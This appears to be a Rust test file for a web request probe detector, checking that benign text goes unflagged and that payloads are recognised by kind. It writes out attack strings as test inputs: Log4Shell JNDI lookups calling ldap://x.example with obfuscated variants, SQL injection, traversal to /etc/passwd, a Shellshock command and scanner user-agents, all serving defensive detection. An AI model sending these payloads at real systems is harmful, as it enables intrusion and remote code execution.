//! What probes are seen and what is left alone, on two lists: what people write, and payloads by kind. The
//! README's figures are these.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "a test")]
#![expect(clippy::print_stdout, clippy::disallowed_methods, reason = "figures are for reading, and measured")]

use std::sync::Arc;

use palisade::config;
use palisade::facts::probe::{Kind, Mark, Place, kinds_in};
use palisade::facts::{Hashes, Headers, Probes};
use palisade::policy::Secret;
use palisade::sim::{Answer, Request, Worker};
use proptest::prelude::*;

use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};

fn lines(name: &str) -> Vec<String> {
    let file = format!("{}/tests/probes/{name}", env!("CARGO_MANIFEST_DIR"));
    let text = std::fs::read_to_string(file).unwrap();
    text.lines()
        .filter(|line| !line.starts_with("# ") || line.starts_with("# Heading"))
        .map(str::to_owned)
        .collect()
}

fn names(kinds: impl IntoIterator<Item = Kind>) -> Vec<&'static str> {
    kinds.into_iter().map(Kind::name).collect()
}

fn hashes() -> Hashes {
    Hashes::new(&Secret(b"a secret of the tests".to_vec()))
}

/// What a request with these headers beside `host` is evidence of.
fn of_head(method: &str, path: &str, headers: &[(&str, &str)]) -> Vec<&'static str> {
    let mut all: Vec<(&[u8], &[u8])> = vec![(b":method", method.as_bytes()), (b":path", path.as_bytes())];
    all.extend(headers.iter().map(|(name, value)| (name.as_bytes(), value.as_bytes())));
    let headers = Headers::new(all);
    names(Probes::of_head(&headers, Mark::of(&headers), &hashes()).0.kinds())
}

fn of_json(value: &str) -> Vec<&'static str> {
    let body = serde_json::json!({"a": 1, "value": value, "list": [true]}).to_string();
    let mut probes = Probes::default();
    probes.add_body(Some(b"application/json"), body.as_bytes(), &hashes());
    names(probes.kinds())
}

fn of_query(value: &str) -> Vec<&'static str> {
    of_head("GET", &format!("/search?q={}&page=1", utf8_percent_encode(value, NON_ALPHANUMERIC)), &[])
}

/// 0 of the list, wherever it is written: in a query, in a form, in JSON.
#[test]
fn what_people_write_is_no_probe() {
    let benign = lines("benign.txt");
    assert!(benign.len() >= 200, "{}", benign.len());
    let mut wrong = Vec::new();
    for text in &benign {
        let form = format!(
            "a=1&text={}",
            utf8_percent_encode(text, NON_ALPHANUMERIC).to_string().replace("%20", "+")
        );
        let mut probes = Probes::default();
        probes.add_body(Some(b"application/x-www-form-urlencoded"), form.as_bytes(), &hashes());
        for found in [of_query(text), of_json(text), names(probes.kinds())] {
            if !found.is_empty() {
                wrong.push(format!("{text}: {}", found.join(" ")));
                break;
            }
        }
    }
    println!("false positives: {} of {}", wrong.len(), benign.len());
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), benign.len(), wrong.join("\n"));
}

#[test]
fn payloads_are_seen_as_what_they_are() {
    let attacks = lines("attacks.txt");
    assert!(attacks.len() >= 200, "{}", attacks.len());
    let mut missed = Vec::new();
    for line in &attacks {
        let (kind, payload) = line.split_once('\t').unwrap();
        let as_sent = names(kinds_in(payload.as_bytes(), Place::Parameter));
        for found in [as_sent, of_query(payload), of_json(payload)] {
            if !found.contains(&kind) {
                missed.push(format!("{kind}: {payload} ({})", found.join(" ")));
                break;
            }
        }
    }
    println!("seen: {} of {}", attacks.len() - missed.len(), attacks.len());
    assert!(missed.is_empty(), "{} of {}:\n{}", missed.len(), attacks.len(), missed.join("\n"));
}

const CHROME: &str =
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 Safari/537.36";

#[test]
fn what_browsers_send_of_themselves_is_no_probe() {
    let headers = [
        ("user-agent", CHROME),
        ("sec-ch-ua", r#""Not:A-Brand";v="8", "Chromium";v="150""#),
        ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("cookie", "theme=dark; _ga=GA1.2.1.2; consent=%7B%22ads%22%3Afalse%7D; name=O%27Brien; path=/a/b"),
        ("referer", "https://shop.example/search?q=rock+%27n%27+roll&page=2"),
        ("x-forwarded-for", "203.0.113.7, 2001:db8::1"),
        ("if-none-match", r#"W/"abc""#),
        ("authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x-_1=="),
    ];
    for path in
        ["/", "/products/O'Brien/12", "/a/b.c?d=e&f=", "/search?q=50%25+off", "/it%27s/(new)", "/a;v=1/b"]
    {
        assert_eq!(of_head("GET", path, &headers), [""; 0], "{path}");
    }
    assert_eq!(of_head("CONNECT", "/socket", &[(":protocol", "websocket")]), [""; 0]);
}

#[test]
fn probes_are_seen_wherever_they_stand() {
    let jndi = "${jndi:ldap://x.example/a}";
    for name in [
        "user-agent",
        "referer",
        "x-forwarded-for",
        "cookie",
        "x-api-version",
        "authorization",
        "accept-language",
    ] {
        let value = if name == "cookie" { format!("sid={jndi}") } else { jndi.to_owned() };
        assert_eq!(of_head("GET", "/", &[(name, &value)]), ["jndi"], "{name}");
    }
    assert_eq!(of_head("GET", "/", &[("x-forwarded-for", "127.0.0.1' or 1=1--")]), ["sql"]);
    assert_eq!(of_head("GET", "/", &[("cookie", "a=1; lang=../../../../etc/passwd")]), ["traversal"]);
    assert_eq!(of_head("GET", "/", &[("user-agent", "() { :;}; /bin/bash -c id")]), ["command"]);
    assert_eq!(of_head("GET", "/static/..%2f..%2fetc/passwd", &[]), ["traversal"]);
    assert_eq!(of_head("GET", "/a/${jndi:dns://x}", &[]), ["jndi"]);
    assert_eq!(of_head("GET", "/products/1'%20or%201=1--", &[]), ["sql"]);
    for agent in [
        "sqlmap/1.8",
        "Mozilla/5.0 (compatible; Nuclei - Open-source)",
        "gobuster/3.6",
        "Mozilla/5.00 (Nikto/2.5.0)",
    ] {
        assert_eq!(of_head("GET", "/", &[("user-agent", agent)]), ["scanner"], "{agent}");
    }
    assert_eq!(of_head("GET", "/", &[("acunetix-aspect", "enabled")]), ["scanner"]);
    for method in ["TRACE", "TRACK", "DEBUG", "PROPFIND", "CONNECT", "XYZZY"] {
        assert_eq!(of_head(method, "/", &[]), ["method"], "{method}");
    }
}

/// A method alone counts only where the origin did not serve it; the same probe is one, however often.
#[test]
fn what_counts_is_distinct() {
    let probes = |method: &str, path: &str| {
        let headers = Headers::new(vec![(b":method", method.as_bytes()), (b":path", path.as_bytes())]);
        Probes::of_head(&headers, Mark::of(&headers), &hashes()).0
    };
    let dav = probes("PROPFIND", "/");
    assert!(dav.value(true).is_none() && dav.value(false).is_some());
    let payload = |n: u32| probes("GET", &format!("/?q=%27or+{n}%3D{n}--")).value(true);
    assert!(payload(1).is_some() && payload(1) == payload(1) && payload(1) != payload(2));
    assert_eq!(probes("GET", "/").value(false), None);
}

/// A header that carries a payload is none of the client's make.
#[test]
fn carriers_are_named() {
    let headers: Vec<(&[u8], &[u8])> =
        vec![(b":path", b"/"), (b"user-agent", b"curl/8"), (b"x-a", b"${jndi:ldap://x}"), (b"x-b", b"1")];
    let headers = Headers::new(headers);
    let (_, carriers) = Probes::of_head(&headers, Mark::of(&headers), &hashes());
    assert_eq!(carriers, [&b"x-a"[..]]);
    assert_eq!(headers.without(&carriers).iter().count(), 3);
}

/// Nothing that a client sends takes long: 64 KiB of the worst that is known, beside a head of it.
#[test]
fn the_worst_is_over_soon() {
    let worst = [
        "|", "&", "${", "${${", "{{", "<%", "and if(", "(select ", "; ", "' or ", "`", "../", "\n",
        "' and (", "\\u0024", "%25",
    ];
    for text in worst {
        let value = text.repeat(512 / text.len());
        let json = serde_json::to_vec(&vec![value.as_str(); 128]).unwrap();
        let long = serde_json::to_vec(&text.repeat(65_536 / text.len())).unwrap();
        let before = std::time::Instant::now();
        for body in [&json, &long] {
            Probes::default().add_body(None, body, &hashes());
        }
        let took = before.elapsed();
        assert!(took.as_millis() < 50, "{text}: {took:?}");
    }
}

proptest! {
    #[test]
    fn any_bytes_are_survived(value in prop::collection::vec(any::<u8>(), 0..600), name in prop::collection::vec(any::<u8>(), 0..20)) {
        for place in [Place::Path, Place::Parameter, Place::Header] {
            let _ = kinds_in(&value, place);
        }
        let all: Vec<(&[u8], &[u8])> = vec![
            (b":path", &value), (b":method", &name), (b"cookie", &value), (b"referer", &value),
            (b"x-forwarded-for", &value), (b"user-agent", &value), (&name, &value),
        ];
        let headers = Headers::new(all);
        let (mut probes, carriers) = Probes::of_head(&headers, Mark::of(&headers), &hashes());
        prop_assert!(carriers.len() <= 16);
        probes.add_body(None, &value, &hashes());
        probes.add_body(Some(b"application/x-www-form-urlencoded"), &value, &hashes());
    }

    /// Made of the pieces of payloads, which reach further into the reading.
    #[test]
    fn any_pieces_are_survived(pieces in prop::collection::vec(prop::sample::select(PIECES.to_vec()), 0..60)) {
        let text = pieces.concat();
        let _ = kinds_in(text.as_bytes(), Place::Parameter);
        Probes::default().add_body(None, text.as_bytes(), &hashes());
    }

    /// However a letter of JNDI is hidden.
    #[test]
    fn jndi_is_seen_through_its_lookups(how in prop::collection::vec(0..6_usize, 4)) {
        let hide = |(letter, how): (char, &usize)| match how {
            0 => letter.to_string(),
            1 => format!("${{lower:{letter}}}"),
            2 => format!("${{upper:{letter}}}"),
            3 => format!("${{::-{letter}}}"),
            4 => format!("${{env:NONE:-{letter}}}"),
            _ => format!("${{lower:${{::-{letter}}}}}"),
        };
        let hidden: String = "jndi".chars().zip(&how).map(hide).collect();
        let text = format!("${{{hidden}:ldap://x.example/a}}");
        prop_assert!(kinds_in(text.as_bytes(), Place::Header).contains(&Kind::Jndi), "{text}");
    }
}

const NOW_MS: u64 = 1_800_000_000_000;

fn worker() -> Worker {
    let configuration = serde_json::json!({
        "secret": "a secret of the tests alone", "memory": "8MiB",
        "policies": {"content": {"role": "content"}, "honeypot": {"role": "honeypot"}},
    });
    let read = config::read(&configuration, &|_| None).unwrap_or_else(|mistakes| panic!("{mistakes}"));
    Worker::new(read.settings, Arc::default())
}

fn request(policy: &str, path: &str) -> Request {
    let headers = [(":path", path), (":method", "GET"), ("user-agent", CHROME)];
    let headers = headers.map(|(name, value)| (name.to_owned(), value.to_owned())).to_vec();
    let route_policy = Some(policy.to_owned());
    Request { headers, address: "203.0.113.1:80".to_owned(), route_policy, ..Request::default() }
}

/// The line of a verdict names the kinds, and nothing of what was sent.
#[test]
fn the_line_says_what_was_probed_for() {
    let mut worker = worker();
    for n in 0..3 {
        let path = format!("/a?q=%27+or+1%3D1--&f=../../../../etc/passwd&n={n}%27or+{n}=1--secret");
        worker.exchange(NOW_MS, &request("content", &path), || Answer::status(404));
    }
    let lines = worker.host.lines.borrow().join("\n");
    assert!(lines.contains(r#""reasons":["client-probes""#), "{lines}");
    assert!(lines.contains(r#""probes":["sql","traversal"]"#), "{lines}");
    assert!(!lines.contains("passwd") && !lines.contains("secret"), "{lines}");
}

/// A honeypot that Envoy answers itself condemns as one that the origin answers does.
#[test]
fn a_decoy_needs_no_origin() {
    let mut worker = worker();
    let direct = Answer { details: "direct_response".to_owned(), ..Answer::status(404) };
    assert_eq!(worker.exchange(NOW_MS, &request("honeypot", "/.env"), || direct).replied, None);
    let seen = worker.exchange(NOW_MS, &request("content", "/"), || Answer::status(200));
    assert_eq!(seen.replied, Some(403));
    assert!(worker.host.lines.borrow().join("").contains(r#""probes":["honeypot"]"#));
}

const PIECES: [&str; 40] = [
    "'",
    "\"",
    "`",
    "--",
    "/*",
    "*/",
    "#",
    " ",
    "or",
    "1",
    "=",
    "(",
    ")",
    "select",
    "union",
    "\\",
    "\0",
    "$",
    "${",
    "}",
    "{{",
    "}}",
    "%",
    "%25",
    "%u0024",
    "\\u007b",
    "../",
    "..",
    ";",
    "|",
    "&",
    "cat ",
    "/etc/passwd",
    "lower:",
    "::-",
    "jndi:",
    "<%",
    "@@version",
    "é",
    "order by",
];
